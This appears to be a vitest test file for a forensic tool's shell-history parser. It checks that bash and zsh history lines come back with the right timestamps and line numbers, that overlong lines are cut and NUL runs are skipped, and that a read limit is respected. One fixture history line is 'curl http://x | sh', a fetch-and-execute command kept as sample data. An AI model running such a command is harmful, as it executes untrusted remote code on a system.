import { describe, expect, it } from "vitest";
import { dir } from "../../../../../src/fs/memory.js";
import { runOnTarget, type FunctionOutcome } from "../../../../../src/plugin/runner.js";
import { defaultRegistry, targetFromTree } from "../../../../../plugins/index.js";
import type { AnyRecord } from "../../../../../src/records/descriptor.js";
import { silentLogger } from "../../../../../src/util/log.js";
import { Target } from "../../../../../src/target.js";

async function collect(t: Target, fn: string): Promise<AnyRecord[]> {
  return (await run(t, fn)).records;
}

async function run(t: Target, fn: string, args: Record<string, unknown> = {}): Promise<{ records: AnyRecord[]; outcome: FunctionOutcome }> {
  const records: AnyRecord[] = [];
  const [outcome] = await runOnTarget(t, defaultRegistry.resolve(fn).groups, defaultRegistry, { write: (r) => void records.push(r), close: async () => {} }, { log: silentLogger, args });
  return { records, outcome: outcome! };
}

describe("commandhistory", () => {
  it("reads bash (with HISTTIMEFORMAT stamps) and zsh extended histories", async () => {
    const t = targetFromTree({
      "/etc": dir(),
      "/var": dir(),
      "/root/.bash_history": "#1709539200\nid\nwhoami\n#1709539260\ncurl http://x | sh\n",
      "/home/alice/.zsh_history": ": 1709625600:0;ls -la\nplain line\n",
    });
    const recs = await collect(t, "commandhistory");
    expect(recs.map((r) => [r.user, r.shell_name, r.command, String(r.ts), r.lineno])).toEqual([
      ["root", "bash", "id", "2024-03-04 08:00:00+00:00", 2],
      ["root", "bash", "whoami", "null", 3],
      ["root", "bash", "curl http://x | sh", "2024-03-04 08:01:00+00:00", 5],
      ["alice", "zsh", "ls -la", "2024-03-05 08:00:00+00:00", 1],
      ["alice", "zsh", "plain line", "null", 2],
    ]);
  });

  it("streams lines: a command past 1 MiB is kept cut, a run of NULs (a hole, crash zeros) is no command; both warned", async () => {
    const long = "echo " + "A".repeat(2 * 1024 * 1024);
    const t = targetFromTree({ "/etc": dir(), "/var": dir(), "/root/.bash_history": `id\n${long}\n${"\0".repeat(5000)}\nwhoami` });
    const { records, outcome } = await run(t, "commandhistory");
    expect(records.map((r) => [String(r.command).length, r.lineno])).toEqual([
      [2, 1],
      [1024 * 1024, 2],
      [6, 4],
    ]);
    expect(outcome.warnings).toEqual([
      { message: `line 2 is ${long.length} bytes; only its first 1048576 are kept`, file: "/root/.bash_history", offset: 3 },
      { message: "line 3: 5000 bytes of NULs (a hole, or zeros left by a crash); not a command", file: "/root/.bash_history", offset: 4 + long.length },
    ]);
  });

  it("reads at most --history-limit MiB of a file, and says where it stopped", async () => {
    const line = "x".repeat(1023) + "\n";
    const t = targetFromTree({ "/etc": dir(), "/var": dir(), "/root/.bash_history": line.repeat(3 * 1024) }); // 3 MiB
    const { records, outcome } = await run(t, "commandhistory", { "history-limit": 1 });
    expect(records.length).toBe(1024);
    expect(outcome.warnings).toEqual([{ message: "3145728-byte history: only the first 1048576 bytes were read (--history-limit 0 reads all)", file: "/root/.bash_history", offset: 1048576 }]);
    expect((await run(t, "commandhistory", { "history-limit": 0 })).records.length).toBe(3 * 1024);
  });

  it("says why it does not apply", async () => {
    const t = targetFromTree({ "/etc": dir(), "/var": dir() });
    const outcomes = await runOnTarget(t, defaultRegistry.resolve("commandhistory").groups, defaultRegistry, { write: () => {}, close: async () => {} }, { log: silentLogger });
    expect(outcomes[0]).toMatchObject({ status: "absent", reason: "no shell history files in /root or /home/*" });
  });
});
